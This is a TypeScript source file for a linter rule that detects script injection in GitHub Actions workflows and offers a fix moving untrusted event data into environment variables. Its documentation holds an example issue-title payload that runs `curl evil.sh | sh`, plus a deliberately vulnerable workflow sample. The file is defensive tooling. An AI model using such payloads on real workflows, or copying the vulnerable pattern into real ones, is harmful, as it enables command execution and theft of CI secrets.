import { describeStep, expressionsIn, githubActions, untrustedContext, type Expression, type Workflow, type WorkflowJob, type WorkflowStep } from '../../analysis/github-actions';
import { mergeIntoChild } from '../../analysis/yaml-edits';
import { get, scalar } from '../../analysis/yaml-model';
import type { Fix } from '../../findings';
import type { TextEdit } from '../../text';
import type { Rule, SourceFile } from '../types';

const WORKFLOW = (step: string) =>
  `name: triage\non:\n  issues:\n    types: [opened]\npermissions:\n  issues: write\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n${step}`;

export const ghaScriptInjection: Rule = {
  meta: {
    id: 'gha.script-injection',
    title: 'Attacker-controlled event data expanded into a script',
    family: 'yaml',
    cwes: [78, 94],
    severity: 'high',
    confidence: 'high',
    docs: {
      summary:
        'Finds `${{ ... }}` expressions reading fields that whoever opens an issue or pull request controls (titles, bodies, branch names, commit messages, comments) inside a step\'s `run:` script or an `actions/github-script` `script:`.',
      why:
        'The expression is pasted into the script before the shell runs it: an issue titled `a"; curl evil.sh | sh; echo "` runs the attacker\'s commands on the runner, with the job\'s GITHUB_TOKEN and secrets. Passing the value through an environment variable makes it data, not code.',
      vulnerable: WORKFLOW('      - name: Greet\n        run: echo "Thanks for ${{ github.event.issue.title }}"\n'),
      safe: WORKFLOW('      - name: Greet\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}\n        run: echo "Thanks for $ISSUE_TITLE"\n'),
      references: ['https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections', 'https://securitylab.github.com/resources/github-actions-untrusted-input/'],
    },
  },
  checkFile(context) {
    for (const workflow of context.analysis(githubActions)) {
      for (const job of workflow.jobs) {
        for (const step of job.steps) {
          const script = step.run ?? (step.uses?.value.startsWith('actions/github-script@') ? asScalar(get(get(step.map, 'with'), 'script')) : undefined);
          if (!script) continue;
          for (const expression of expressionsIn(context.file, script)) {
            const untrusted = untrustedContext(expression.body);
            if (!untrusted) continue;
            context.report({
              start: expression.start,
              end: expression.end,
              message: `${describeStep(job, step)} pastes ${untrusted}, which the event's author controls, into its script: an attacker can run commands on the runner; pass it through env: instead`,
              fix: step.run === script ? moveToEnvFix(context.file, workflow, job, step, expression, untrusted) : undefined,
            });
          }
        }
      }
    }
  },
};

function asScalar(value: ReturnType<typeof get>) {
  return value?.kind === 'scalar' ? value : undefined;
}

/** `github.event.issue.title` -> `ISSUE_TITLE`. */
function envName(context: string): string {
  const parts = context.replace(/\[[^\]]*\]/g, '').split('.').filter((p) => p !== 'github' && p !== 'event');
  return parts.slice(-2).join('_').replace(/[^A-Za-z0-9]+/g, '_').toUpperCase();
}

/** Whether the step's script runs in bash/sh (the Linux and macOS default), where `$NAME` reads the variable. */
function runsInPosixShell(workflow: Workflow, job: WorkflowJob, step: WorkflowStep): boolean {
  const shell = scalar(get(step.map, 'shell')) ?? scalar(get(get(get(job.map, 'defaults'), 'run'), 'shell')) ?? scalar(get(get(get(workflow.root, 'defaults'), 'run'), 'shell'));
  if (shell) return /^(bash|sh)\b/.test(shell);
  return !/windows/i.test(scalar(get(job.map, 'runs-on')) ?? '');
}

/**
 * Adds `NAME: ${{ expression }}` to the step's env and puts `$NAME` where the expression was, quoted unless it sits
 * inside a double-quoted string of the script already.
 */
function moveToEnvFix(file: SourceFile, workflow: Workflow, job: WorkflowJob, step: WorkflowStep, expression: Expression, context: string): Fix | undefined {
  if (!runsInPosixShell(workflow, job, step)) return undefined;
  const name = envName(context);
  const existing = scalar(get(get(step.map, 'env'), name));
  if (existing !== undefined && existing !== `\${{ ${expression.body} }}`) return undefined;
  const lineStart = file.text.lastIndexOf('\n', expression.start - 1) + 1;
  const before = file.text.slice(lineStart, expression.start).replace(/\\./g, '');
  const inDoubleQuotes = (before.match(/"/g)?.length ?? 0) % 2 === 1;
  const inSingleQuotes = !inDoubleQuotes && (before.match(/'/g)?.length ?? 0) % 2 === 1;
  const reference = inDoubleQuotes ? `\${${name}}` : inSingleQuotes ? `'"\${${name}}"'` : `"\${${name}}"`;
  const envEdits = existing === undefined ? mergeIntoChild(file, step.map, 'env', [{ key: name, value: `\${{ ${expression.body} }}` }]) : [];
  if (!envEdits) return undefined;
  const edits: TextEdit[] = [...envEdits, { start: expression.start, end: expression.end, newText: reference }];
  return { title: `Pass ${context} through env: ${name}`, edits };
}
